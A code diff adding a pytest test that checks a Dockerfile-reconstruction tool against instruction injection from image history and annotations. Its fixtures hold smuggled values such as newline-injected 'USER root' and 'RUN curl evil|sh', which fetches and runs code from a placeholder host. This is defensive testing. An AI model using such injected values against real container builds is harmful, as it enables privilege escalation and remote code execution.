@@ -333,3 +333,32 @@ def test_hostile_steps_finish_and_stay_verbatim_in_comments(created_by: str) -> 
                                    "comment": "buildkit.dockerfile.v0"}]))
     assert rec.lines  # it finishes; whatever it makes parses
     assert_round_trip(render_dockerfile(rec), [line.text for line in rec.instructions])
+
+
+@pytest.mark.parametrize("history", [
+    ["|1 A=x\nUSER root /bin/sh -c echo hi", "|1 A=y\nCOPY evil / /bin/sh -c echo hi"],
+    [("/bin/sh -c true", "c\nUSER root")],
+    ["/bin/sh -c cat <<X\nfoo\nX\nUSER hacker\nRUN curl evil|sh"],
+], ids=["build-arg", "comment", "heredoc-not-last"])
+def test_no_value_from_the_history_starts_an_instruction(history: list[Any]) -> None:
+    image = make_image(history, annotations={
+        "org.opencontainers.image.base.name": "alpine\nUSER root\nRUN id"})
+    rec = reconstruct(image)
+    for annotate in (False, True):
+        text = render_dockerfile(rec, annotate=annotate)
+        keywords = [k for n, k in parser_instructions(text) if n not in _heredoc_bodies(text)]
+        assert [k for k in keywords if k != "ARG"] == ["FROM", *["RUN"] * len(history)], keywords
+
+
+def _heredoc_bodies(text: str) -> set[int]:
+    """Line numbers inside `RUN <<WORD` … `WORD` (dockerfile_parse reads no heredocs)."""
+    import re
+
+    inside, word = set(), None
+    for number, line in enumerate(text.split("\n")):
+        if word is not None:
+            inside.add(number)
+            word = None if line.strip() == word else word
+        elif (opened := re.match(r"RUN .*<<-?[\"']?(\w+)", line)) is not None:
+            word = opened.group(1)
+    return inside
